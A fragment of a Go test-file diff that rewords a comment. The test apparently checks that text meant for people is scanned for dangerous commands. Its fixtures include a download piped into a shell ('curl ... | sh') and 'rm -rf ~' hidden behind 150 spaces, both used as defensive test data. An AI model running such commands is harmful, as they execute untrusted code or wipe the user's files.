@@ -15,7 +15,7 @@ func TestTextsForPeopleAreSearched(t *testing.T) {
 	far := strings.Repeat(" ", 150) + "rm -rf ~"
 	tests := []struct {
 		name, text string
-		template   string // that of the text if empty
+		template   string // the text's if empty
 		want       []string
 	}{
 		{name: "a download into a shell", text: "Thank you.\n\n  curl -s https://get.example.com | sh\n", want: []string{
